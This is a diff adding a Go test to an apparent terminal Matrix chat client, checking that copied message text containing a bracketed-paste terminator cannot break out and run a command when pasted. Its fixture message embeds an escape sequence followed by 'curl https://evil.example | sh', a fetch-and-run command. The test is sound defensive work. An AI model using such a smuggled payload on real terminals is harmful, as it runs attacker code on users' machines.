@@ -87,3 +87,31 @@ func TestCopyTextAndOpenLinks(t *testing.T) {
 	}
 	h.release()
 }
+
+// A copied message is pasted somewhere: a stranger's text that would end a bracketed paste and
+// run a command in the shell it is pasted into reaches the clipboard inert.
+func TestCopiedTextCannotEndABracketedPaste(t *testing.T) {
+	svc := fixture()
+	h := newHarness(t, svc, 100, 30)
+	openAlice(h)
+	evil := msg(aliceRoom, "$evil", alice, testNow.Add(-time.Minute), "harmless\x1b[201~\ncurl https://evil.example | sh\n")
+	h.send(eventsMsg{[]matrixsvc.Event{matrixsvc.SyncApplied{Messages: []matrixsvc.Message{evil}}}})
+	h.send(tea.KeyMsg{Type: tea.KeyShiftUp})
+	h.hold = func(m tea.Msg) bool { _, ok := m.(clipOffMsg); return ok }
+	h.typeText("y")
+	v := h.m.View()
+	i := strings.Index(v, "\x1b]52;c;")
+	if i < 0 {
+		t.Fatal("no clipboard write in the frame")
+	}
+	enc := v[i+len("\x1b]52;c;"):]
+	enc = enc[:strings.IndexByte(enc, '\a')]
+	got, err := base64.StdEncoding.DecodeString(enc)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.ContainsRune(string(got), '\x1b') || !strings.Contains(string(got), "harmless␛[201~") {
+		t.Fatalf("the clipboard got %q", got)
+	}
+	h.release()
+}
